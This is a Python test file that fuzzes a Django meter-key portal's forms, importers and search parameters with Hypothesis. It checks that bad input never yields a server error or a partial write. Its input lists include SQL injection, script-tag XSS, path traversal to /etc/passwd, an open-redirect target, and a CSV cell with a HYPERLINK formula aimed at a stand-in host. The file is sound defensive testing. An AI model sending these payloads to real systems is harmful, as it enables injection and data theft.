"""Generated bad input (Hypothesis) for every form, both importers, the paste box and the file
password: never a 5xx, never a partial write.

Inputs per test, by Hypothesis profile (tests/conftest.py): 200 under CI=true ("ci"), 40 in a
local run ("dev"), 1,000 in the deep run (14 tests: 14,000 inputs in total):
``HYPOTHESIS_PROFILE=deep bash scripts/test -m generated``.

Repeatable: under CI=true the inputs are derandomized, the same on every run; elsewhere each run
explores new ones and the .hypothesis/ database replays any failure first next time. Every
failure ever found is pinned below with @example, so it replays everywhere, in CI too, whatever
the profile draws.
"""

from __future__ import annotations

import io
import itertools
import os
from collections.abc import Iterator
from typing import Any

import pytest
from allauth.account.models import EmailAddress
from django.core.cache import cache
from django.db.models import Model, Q
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from accounts.models import AccessRequest, Organization, User
from accounts.services import make_activation_token
from accounts.views import ACTIVATION_SESSION_KEY
from audit.context import AuditContext
from audit.models import AuditEvent
from devices.models import Device, DeviceRegistration
from kamkeys.models import OutboundEmail
from keyfiles.import_rows import ImportInputError
from keyfiles.importer import import_keys
from keyfiles.kem import iter_kem_document
from keyvault.models import DeviceKey
from readrights.invitation_views import SESSION_LINK_KEY
from readrights.models import Invitation, ReadRight
from readrights.services import assign_read_rights, clean_emails
from tests.conftest import generated_input_examples
from tests.factories import (
    DEFAULT_PASSWORD,
    DeviceFactory,
    OrganizationFactory,
    login,
    make_member,
    make_super_user,
    stored_selection_ids,
    web,
)
from tests.hardening.figures import add_figure

FUZZ = settings(
    max_examples=generated_input_examples(),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Passwords that made the strength check (zxcvbn) raise: a 500 on every form that judged them.
CRASHED_ZXCVBN = "00000\n"  # its date matcher: `$` matches before the line break
PAST_ZXCVBN_LIMIT = "violet tractor umbrella 42, heron lantern quartz 97, meadow copper fjords"
OVER_THE_CAP = "Quartz-Lantern-Meadow-47! " * 6  # 156 characters

# --- strategies ---------------------------------------------------------------------------------

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "' OR 1=1 --",
    '"><script>alert(1)</script>',
    "%00",
    "../../etc/passwd",
    "\u202eevil",
    "ÆØÅ æøå",
    "😀" * 10,
    "x" * 5000,
    "9" * 40,
    "-1",
    "0",
    "00000000",
    "12345678",
    "1234567",
    "123456789",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "1900-01-01",
    "NaN",
    "None",
    "null",
    "{}",
    "[]",
    "@",
    "a@b",
    "a@b.c",
    "user@example.com",
    "@example.com",
    "a@" + "b" * 250 + ".com",
    "a,b;c d\ne",
]
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300)
DIGITISH = st.text(alphabet="0123456789 ,;\n\t-.+", max_size=60)
JUNK = st.one_of(TEXT, st.sampled_from(NASTY), DIGITISH)
EMAILISH = st.one_of(
    JUNK,
    st.emails(),
    st.lists(st.one_of(st.emails(), JUNK), max_size=6).map(", ".join),
)

_unique = itertools.count(1)


class Tally:
    """Inputs tried and 5xx seen by one test, added to the printed figure at the end."""

    def __init__(self) -> None:
        self.tried = 0
        self.server_errors = 0

    def status(self, client: Client, method: str, url: str, data: Any = None) -> int:
        self.tried += 1
        send = client.get if method == "GET" else client.post
        try:
            response = send(url, data or {})
            status = response.status_code
            if getattr(response, "streaming", False):
                b"".join(response.streaming_content)
        except Exception:  # noqa: BLE001 - a crash while streaming is a 5xx the user sees
            status = 500
        if status >= 500:
            self.server_errors += 1
        return status

    def crashed(self) -> None:
        self.server_errors += 1


@pytest.fixture
def tally() -> Iterator[Tally]:
    counter = Tally()
    yield counter
    add_figure("bad_input", counter.tried, counter.server_errors)


def counts(*models: type[Model]) -> tuple[int, ...]:
    return tuple(model._base_manager.count() for model in models)


def _client(user: Any = None) -> Client:
    client = Client(raise_request_exception=False)
    return login(client, user) if user is not None else client


# --- accounts -----------------------------------------------------------------------------------


@pytest.mark.generated
@pytest.mark.django_db
def test_registration_email_never_fails_or_creates_accounts(tally: Tally) -> None:
    url = reverse("accounts:register")

    @FUZZ
    @given(email=EMAILISH)
    def attempt(email: str) -> None:
        cache.clear()
        before = counts(User, EmailAddress)
        status = tally.status(_client(), "POST", url, {"email": email})
        assert status < 500, f"register with {email!r} → {status}"
        assert counts(User, EmailAddress) == before

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_complete_registration_is_whole_or_nothing(tally: Tally) -> None:
    url = reverse("accounts:complete_registration")

    @FUZZ
    @given(name=JUNK, password=JUNK, repeat=st.one_of(st.none(), JUNK))
    @example(name="", password=CRASHED_ZXCVBN, repeat=None)
    @example(name="Fresh", password="Quartz-Lantern-19991231\n", repeat=None)
    @example(name="", password=PAST_ZXCVBN_LIMIT, repeat=None)
    @example(name="", password=OVER_THE_CAP, repeat=None)
    def attempt(name: str, password: str, repeat: str | None) -> None:
        cache.clear()
        email = f"fresh{next(_unique)}@registration.example"
        client = _client()
        session = client.session
        session[ACTIVATION_SESSION_KEY] = make_activation_token(email)
        session.save()
        before = counts(User, EmailAddress)
        data = {
            "name": name,
            "password1": password,
            "password2": password if repeat is None else repeat,
        }
        status = tally.status(client, "POST", url, data)
        assert status < 500, f"complete registration with {data!r} → {status}"
        if status == 302:
            assert User.objects.filter(email=email).exists()
            assert EmailAddress.objects.filter(email=email, verified=True).exists()
        else:
            assert counts(User, EmailAddress) == before

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_password_change_is_whole_or_nothing(tally: Tally) -> None:
    user = make_member(OrganizationFactory(), email="changer@utility.example", name="Chang Er")
    original = user.password
    url = reverse("account_change_password")

    @FUZZ
    @given(
        old=st.one_of(st.just(DEFAULT_PASSWORD), JUNK),
        password=st.one_of(JUNK, st.just("Kx9!vertical-Lamp-42")),
        repeat=st.one_of(st.none(), JUNK),
    )
    @example(old=DEFAULT_PASSWORD, password=CRASHED_ZXCVBN, repeat=None)
    @example(old=DEFAULT_PASSWORD, password="Quartz-Lantern-19991231\n", repeat=None)
    @example(old=DEFAULT_PASSWORD, password=PAST_ZXCVBN_LIMIT, repeat=None)
    @example(old=DEFAULT_PASSWORD, password=OVER_THE_CAP, repeat=None)
    def attempt(old: str, password: str, repeat: str | None) -> None:
        cache.clear()
        User.objects.filter(pk=user.pk).update(password=original)
        user.refresh_from_db()
        data = {
            "oldpassword": old,
            "password1": password,
            "password2": password if repeat is None else repeat,
        }
        status = tally.status(_client(user), "POST", url, data)
        assert status < 500, f"password change with {data!r} → {status}"
        user.refresh_from_db()
        if status == 302:
            assert user.check_password(password)
        else:
            assert user.password == original, "a refused password change changed the password"

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_login_form_never_fails(tally: Tally) -> None:
    user = make_member(OrganizationFactory(), email="known@login.example")
    url = reverse("account_login")

    @FUZZ
    @given(login_as=st.one_of(EMAILISH, st.just(user.email)), password=JUNK)
    def attempt(login_as: str, password: str) -> None:
        cache.clear()
        before = counts(User, EmailAddress)
        status = tally.status(_client(), "POST", url, {"login": login_as, "password": password})
        assert status < 500, f"login {login_as!r} / {password!r} → {status}"
        assert counts(User, EmailAddress) == before

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_request_access_is_whole_or_nothing(tally: Tally) -> None:
    user = make_member(OrganizationFactory(), email="asker@utility.example")
    client = _client(user)
    url = reverse("accounts:request_access")

    @FUZZ
    @given(
        customer_name=JUNK,
        customer_number=JUNK,
        distributor=st.sampled_from(["", "on", "true", "0", "\x00", "yes please"]),
        message=JUNK,
    )
    def attempt(customer_name: str, customer_number: str, distributor: str, message: str) -> None:
        cache.clear()
        AccessRequest.objects.filter(user=user).delete()
        data = {
            "customer_name": customer_name,
            "customer_number": customer_number,
            "is_distributor": distributor,
            "message": message,
        }
        status = tally.status(client, "POST", url, data)
        assert status < 500, f"request access with {data!r} → {status}"
        written = AccessRequest.objects.filter(user=user).count()
        assert written == (1 if status == 302 else 0)

    attempt()


# --- devices ------------------------------------------------------------------------------------


@pytest.fixture
def distributor(db) -> dict[str, Any]:  # noqa: ANN001
    org = OrganizationFactory(name="Fuzz Distributor", kind=Organization.Kind.DISTRIBUTOR)
    devices = DeviceFactory.create_batch(3, owner=org)
    from keyvault.services import store_device_keys

    for device in devices:
        store_device_keys(device, {"DEK": os.urandom(16)})
    other = DeviceFactory(owner=OrganizationFactory(kind=Organization.Kind.DISTRIBUTOR))
    return {
        "org": org,
        "super": make_super_user(org, email="fuzz.super@distributor.example", name="Fuzz"),
        "devices": devices,
        "foreign": other,
    }


def _select(client: Client, devices: list[Device]) -> None:
    session = client.session
    session["devices_selection"] = {"ids": [d.pk for d in devices], "searches": []}
    session.save()


@pytest.mark.generated
@pytest.mark.django_db
def test_register_device_never_fails_or_half_registers(tally: Tally, distributor) -> None:  # noqa: ANN001
    user = make_member(OrganizationFactory(), email="registrar@utility.example")
    client = _client(user)
    url = reverse("devices:register")
    serials = [d.serial for d in distributor["devices"]]

    @FUZZ
    @given(serial=st.one_of(JUNK, st.sampled_from(serials)), code=st.one_of(JUNK, DIGITISH))
    def attempt(serial: str, code: str) -> None:
        cache.clear()
        before = DeviceRegistration.objects.count()
        status = tally.status(client, "POST", url, {"serial": serial, "code": code})
        assert status < 500, f"register device {serial!r} / {code!r} → {status}"
        if status != 302:
            assert DeviceRegistration.objects.count() == before

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_paste_box_never_fails_and_selects_only_visible_devices(tally: Tally, distributor) -> None:  # noqa: ANN001
    client = _client(distributor["super"])
    url = reverse("devices:paste")
    own = {d.pk for d in distributor["devices"]}
    serials = [d.serial for d in distributor["devices"]] + [distributor["foreign"].serial]

    @FUZZ
    @given(
        text=st.one_of(
            JUNK,
            st.lists(st.one_of(st.sampled_from(serials), DIGITISH, JUNK), max_size=30).map(
                "\n".join
            ),
        )
    )
    def attempt(text: str) -> None:
        before = counts(Device, DeviceRegistration, ReadRight)
        status = tally.status(client, "POST", url, {"serials": text})
        assert status < 500, f"paste {text!r} → {status}"
        assert counts(Device, DeviceRegistration, ReadRight) == before
        selected = stored_selection_ids(client, distributor["super"])
        assert selected <= own, "a foreign device was selected by pasting its serial"

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_file_password_and_format_never_fail(tally: Tally, distributor) -> None:  # noqa: ANN001
    client = _client(distributor["super"])
    _select(client, distributor["devices"])
    url = reverse("keyfiles:download")

    @FUZZ
    @given(
        fmt=st.one_of(st.sampled_from(["zip", "kem"]), JUNK),
        password=st.one_of(JUNK, st.text(min_size=1, max_size=20)),
        repeat=st.one_of(st.none(), JUNK),
    )
    @example(fmt="zip", password=PAST_ZXCVBN_LIMIT, repeat=None)
    @example(fmt="zip", password=OVER_THE_CAP, repeat=None)
    @example(fmt="zip", password=CRASHED_ZXCVBN, repeat=None)
    @example(fmt="zip", password="Quartz-Lantern-19991231\n", repeat=None)
    @example(fmt="kem", password="a", repeat=None)
    @example(fmt="kem", password=CRASHED_ZXCVBN, repeat=None)
    def attempt(fmt: str, password: str, repeat: str | None) -> None:
        cache.clear()
        downloads = AuditEvent.objects.filter(action="download").count()
        data = {
            "format": fmt,
            "password": password,
            "password_repeat": password if repeat is None else repeat,
        }
        status = tally.status(client, "POST", url, data)
        assert status < 500, f"download with {data!r} → {status}"
        after = AuditEvent.objects.filter(action="download").count()
        assert after == downloads + (1 if status == 200 else 0)

    attempt()


# --- read rights --------------------------------------------------------------------------------


@pytest.mark.generated
@pytest.mark.django_db
def test_assign_read_rights_is_whole_or_nothing(tally: Tally, distributor) -> None:  # noqa: ANN001
    sup = distributor["super"]
    client = _client(sup)
    _select(client, distributor["devices"])
    existing = make_member(OrganizationFactory(), email="existing@utility.example").email
    url = reverse("readrights:assign")
    tables = (ReadRight, Invitation, OutboundEmail)

    @FUZZ
    @given(
        emails=st.one_of(EMAILISH, st.just(existing), st.just(sup.email)),
        expires_on=st.one_of(st.just(""), JUNK, st.dates().map(str)),
        message=JUNK,
        action=st.sampled_from(["confirm", "confirm", "review", "change", "", "\x00"]),
        count=st.sampled_from(["3", "3", "0", "", "x", "\x00", "-1"]),
    )
    def attempt(emails: str, expires_on: str, message: str, action: str, count: str) -> None:
        cache.clear()
        before = counts(*tables)
        data = {
            "emails": emails,
            "expires_on": expires_on,
            "message": message,
            "action": action,
            "device_count": count,
        }
        status = tally.status(client, "POST", url, data)
        assert status < 500, f"assign with {data!r} → {status}"
        if status != 302:
            assert counts(*tables) == before, f"a rejected assignment wrote rows: {data!r}"
            return
        for address in clean_emails(emails, own_email=sup.email):
            holder = User.objects.filter(email__iexact=address).first()
            if holder is not None:
                held = ReadRight.objects.filter(grantee=holder, revoked_at__isnull=True)
                assert held.filter(device__in=distributor["devices"]).count() == 3
            else:
                invitation = Invitation.objects.filter(email__iexact=address).latest("pk")
                assert invitation.devices.count() == 3

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_invitation_acceptance_is_whole_or_nothing(tally: Tally, distributor) -> None:  # noqa: ANN001
    from tests.hardening.conftest import _token_of

    sup = distributor["super"]
    devices = Device.objects.filter(pk__in=[d.pk for d in distributor["devices"]])
    url = reverse("readrights:accept")
    pending: dict[str, Any] = {}

    def fresh_invitation() -> None:
        email = f"invitee{next(_unique)}@fuzz.example"
        assign_read_rights(devices_qs=devices, emails_in=[email], context=web(sup))
        invitation = Invitation.objects.get(email=email)
        pending.update(email=email, token=_token_of(invitation))

    fresh_invitation()

    @FUZZ
    @given(
        name=JUNK,
        password=st.one_of(JUNK, st.just("Kx9!vertical-Lamp-42")),
        repeat=st.one_of(st.none(), JUNK),
    )
    @example(name="New Customer", password=CRASHED_ZXCVBN, repeat=None)
    @example(name="", password=PAST_ZXCVBN_LIMIT, repeat=None)
    @example(name="", password=OVER_THE_CAP, repeat=None)
    def attempt(name: str, password: str, repeat: str | None) -> None:
        cache.clear()
        client = _client()
        session = client.session
        session[SESSION_LINK_KEY] = pending["token"]
        session.save()
        before = counts(User, ReadRight)
        data = {
            "name": name,
            "password1": password,
            "password2": password if repeat is None else repeat,
        }
        status = tally.status(client, "POST", url, data)
        assert status < 500, f"accept with {data!r} → {status}"
        if status == 302:
            user = User.objects.get(email=pending["email"])
            assert ReadRight.objects.filter(grantee=user, revoked_at__isnull=True).count() == 3
            fresh_invitation()
        else:
            assert counts(User, ReadRight) == before

    attempt()


# --- importers ----------------------------------------------------------------------------------

COLUMNS = ["serial", "device_code", "type", "dek", "order_no", "type_no", "config_no"]
COLUMNS += ["consumption_type", "production_year", "kind", "gpk1", "gpk2", "junk", "SERIAL", ""]
GOOD_VALUES = {
    "serial": st.integers(0, 99_999_999).map(lambda n: f"{n:08d}"),
    "device_code": st.integers(0, 99).map(lambda n: f"{n:02d}"),
    "type": st.sampled_from(["MULTICAL 21", "MULTICAL 403", "flowIQ 2200", "OMNIPOWER"]),
    "dek": st.binary(min_size=16, max_size=16).map(bytes.hex),
    "gpk1": st.binary(min_size=16, max_size=16).map(bytes.hex),
    "production_year": st.integers(1990, 2030).map(str),
    "kind": st.sampled_from(["meter", "concentrator"]),
}


def _cell(column: str) -> st.SearchStrategy[str]:
    good = GOOD_VALUES.get(column, st.text(alphabet="ABC0123 ", max_size=10))
    return st.one_of(good, good, JUNK)


@st.composite
def csv_files(draw: Any) -> bytes:
    if draw(st.integers(0, 9)) == 0:
        return draw(st.binary(max_size=400))
    header = draw(
        st.one_of(
            st.just(["serial", "device_code", "type", "dek"]),
            st.lists(st.sampled_from(COLUMNS), min_size=1, max_size=8),
        )
    )
    rows = draw(st.lists(st.tuples(*[_cell(column) for column in header]), min_size=0, max_size=5))
    separator = draw(st.sampled_from([",", ",", ";", "\t"]))
    lines = [separator.join(header), *(separator.join(row) for row in rows)]
    text = "\n".join(lines)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace")


def _import(data: bytes, owner: Organization, fmt: str, password: str | None = None) -> Any:
    try:
        return import_keys(
            io.BytesIO(data),
            owner=owner,
            fmt=fmt,
            password=password,
            context=AuditContext.command(),
        )
    except ImportInputError:
        return None


def _check_import(tally: Tally, data: bytes, owner: Organization, fmt: str, pw: str | None) -> None:
    tally.tried += 1
    before = counts(Device, DeviceKey, AuditEvent)
    try:
        report = _import(data, owner, fmt, pw)
    except Exception:
        tally.crashed()
        raise
    after = counts(Device, DeviceKey, AuditEvent)
    if report is None or not report.ok:
        assert after == before, "a rejected import wrote rows"
        return
    assert after[0] - before[0] == report.imported
    assert after[1] - before[1] == report.keys
    if report.imported:
        assert after[2] - before[2] == 1, "an import is audited once"
    formulas = Q()
    for start in ("=", "+", "-", "@"):
        for field in ("device_type", "order_no", "type_no", "config_no", "consumption_type"):
            formulas |= Q(**{f"{field}__startswith": start})
    assert not Device.objects.filter(formulas).exists(), "an import stored a spreadsheet formula"


@pytest.mark.generated
@pytest.mark.django_db
def test_csv_import_never_crashes_and_is_all_or_nothing(tally: Tally) -> None:
    owner = OrganizationFactory(name="CSV Owner", kind=Organization.Kind.DISTRIBUTOR)

    @FUZZ
    @given(data=csv_files())
    @example(
        data=b"serial,device_code,type,dek,order_no\n"
        + b"10000001,01,MULTICAL 21,"
        + b"ab" * 16
        + b',"=HYPERLINK(""http://x/?""&E2)"\n'
    )
    def attempt(data: bytes) -> None:
        _check_import(tally, data, owner, "csv", None)

    attempt()


METER_FIELDS = ["MeterName", "ConsumptionType", "MeterNo", "SerialNo", "VendorId", "ConfigNo"]
METER_FIELDS += ["TypeNo", "DEK"]
GOOD_METER = {
    "MeterName": st.sampled_from(["MC21", "MC403", "MC603", "OMNIPOWER", ""]),
    "SerialNo": st.integers(0, 99_999_999).map(lambda n: f"{n:08d}"),
    "MeterNo": st.integers(0, 99_999_999).map(str),
    "DEK": st.binary(min_size=16, max_size=16).map(lambda b: b.hex().upper()),
    "VendorId": st.sampled_from(["KAM", "kam", "XX"]),
}


@st.composite
def kem_meter(draw: Any) -> str:
    parts = []
    for name in METER_FIELDS:
        if draw(st.integers(0, 15)) == 0:
            continue  # a missing element
        good = GOOD_METER.get(name, st.text(alphabet="ABC0123", max_size=8))
        value = draw(st.one_of(good, good, good, JUNK))
        parts.append(f"<{name}>{value}</{name}>")
    return "<Meter>" + "".join(parts) + "</Meter>"


@st.composite
def kem_files(draw: Any) -> tuple[bytes, str]:
    password = draw(st.sampled_from(["Kem-Pass-77", "a", "0123456789abcdef"]))
    if draw(st.integers(0, 9)) == 0:
        return draw(st.binary(max_size=400)), password
    meters = draw(st.lists(kem_meter(), max_size=4))
    document = b"".join(iter_kem_document(meters, password))
    mutation = draw(st.sampled_from(["none", "none", "none", "truncate", "flip", "password"]))
    if mutation == "truncate" and document:
        document = document[: draw(st.integers(0, len(document) - 1))]
    elif mutation == "flip" and document:
        at = draw(st.integers(0, len(document) - 1))
        document = document[:at] + bytes([document[at] ^ 0x5A]) + document[at + 1 :]
    elif mutation == "password":
        password = draw(st.one_of(JUNK, st.just("Wrong-Pass-77")))
    if draw(st.booleans()):
        import zipfile

        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(
                draw(st.sampled_from(["keys.kem", "KEYS.KEM", "a/b.kem", "x.txt"])), document
            )
        document = buffer.getvalue()
    return document, password


@pytest.mark.generated
@pytest.mark.django_db
def test_kem_import_never_crashes_and_is_all_or_nothing(tally: Tally) -> None:
    owner = OrganizationFactory(name="KEM Owner", kind=Organization.Kind.DISTRIBUTOR)

    @FUZZ
    @given(file=kem_files())
    def attempt(file: tuple[bytes, str]) -> None:
        data, password = file
        _check_import(tally, data, owner, "kem", password)

    attempt()


# --- the search boxes and the raw POST fields read without a form ----------------------------


@pytest.mark.generated
@pytest.mark.django_db
def test_search_boxes_and_page_parameters_never_fail(tally: Tally, distributor) -> None:  # noqa: ANN001
    client = _client(distributor["super"])
    pages = [reverse("devices:list"), reverse("readrights:user_admin"), reverse("readrights:edit")]
    keys = ["order", "serial", "type", "owner", "sort", "page", "per_page", "q"]

    @FUZZ
    @given(
        page=st.sampled_from(pages),
        params=st.dictionaries(st.sampled_from(keys), JUNK, max_size=4),
    )
    def attempt(page: str, params: dict[str, str]) -> None:
        status = tally.status(client, "GET", page, params)
        assert status < 500, f"GET {page} {params!r} → {status}"

    attempt()


@pytest.mark.generated
@pytest.mark.django_db
def test_selection_and_revoke_posts_never_fail(tally: Tally, distributor) -> None:  # noqa: ANN001
    sup = distributor["super"]
    client = _client(sup)
    customer = make_member(OrganizationFactory(), email="held@utility.example")
    ReadRight.objects.create(device=distributor["devices"][0], grantee=customer, granted_by=sup)
    ids = [str(d.pk) for d in distributor["devices"]] + [str(distributor["foreign"].pk)]
    id_lists = st.lists(st.one_of(st.sampled_from(ids), JUNK), max_size=5)
    selection = st.fixed_dictionaries(
        {
            "action": st.one_of(
                st.sampled_from(["update", "select", "deselect", "select_page", "select_search"]),
                JUNK,
            ),
            "device": id_lists,
            "page_ids": id_lists,
            "next": st.one_of(JUNK, st.just("//evil.example/"), st.just("/devices/")),
            "serial": JUNK,
            "owner": JUNK,
        }
    )
    revoke = st.fixed_dictionaries(
        {
            "grantee": st.one_of(st.just(str(customer.pk)), JUNK),
            "scope": st.one_of(st.just("all"), JUNK),
            "device": id_lists,
            "next": JUNK,
        }
    )

    @FUZZ
    @given(which=st.sampled_from(["selection", "revoke"]), data=st.data())
    def attempt(which: str, data: Any) -> None:
        body = data.draw(selection if which == "selection" else revoke)
        url = reverse(f"{'devices' if which == 'selection' else 'readrights'}:{which}")
        before = counts(ReadRight, AuditEvent)
        rights = ReadRight.objects.filter(revoked_at__isnull=True).count()
        status = tally.status(client, "POST", url, body)
        assert status < 500, f"POST {url} {body!r} → {status}"
        if which == "selection":
            assert counts(ReadRight, AuditEvent) == before
            selected = stored_selection_ids(client, distributor["super"])
            assert distributor["foreign"].pk not in selected
        elif status != 302:
            assert ReadRight.objects.filter(revoked_at__isnull=True).count() == rights
        assert (
            ReadRight.objects.filter(
                device=distributor["foreign"], revoked_at__isnull=False
            ).count()
            == 0
        )

    attempt()


# --- what the generated input found, pinned ----------------------------------------------------


@pytest.mark.django_db
def test_user_administration_search_with_a_nul_byte_is_not_a_server_error(distributor) -> None:  # noqa: ANN001
    client = _client(distributor["super"])
    response = client.get(reverse("readrights:user_admin"), {"q": "a\x00b"})
    assert response.status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("grantee", ["9223372036854775808", "-1", "0", "1" * 40])
def test_revoking_for_a_customer_id_beyond_any_database_id_is_a_404(distributor, grantee) -> None:  # noqa: ANN001
    client = _client(distributor["super"])
    _select(client, distributor["devices"])
    response = client.post(reverse("readrights:revoke"), {"grantee": grantee, "scope": "all"})
    assert response.status_code == 404


@pytest.mark.django_db
def test_revoking_with_nothing_selected_is_not_a_server_error(distributor) -> None:  # noqa: ANN001
    sup = distributor["super"]
    customer = make_member(OrganizationFactory(), email="held@utility.example")
    ReadRight.objects.create(device=distributor["devices"][0], grantee=customer, granted_by=sup)
    client = _client(sup)  # nothing selected in My devices (e.g. cleared in another tab)
    response = client.post(reverse("readrights:revoke"), {"grantee": str(customer.pk)})
    assert response.status_code < 500
    assert ReadRight.objects.filter(grantee=customer, revoked_at__isnull=True).count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("target", ["0", "devices", "x:y", "1.5"])
def test_a_bare_word_as_next_after_selecting_is_not_a_server_error(
    distributor, target: str
) -> None:  # noqa: ANN001
    client = _client(distributor["super"])
    response = client.post(reverse("devices:selection"), {"action": "clear", "next": target})
    assert response.status_code == 302
    assert response["Location"] == reverse("devices:list")
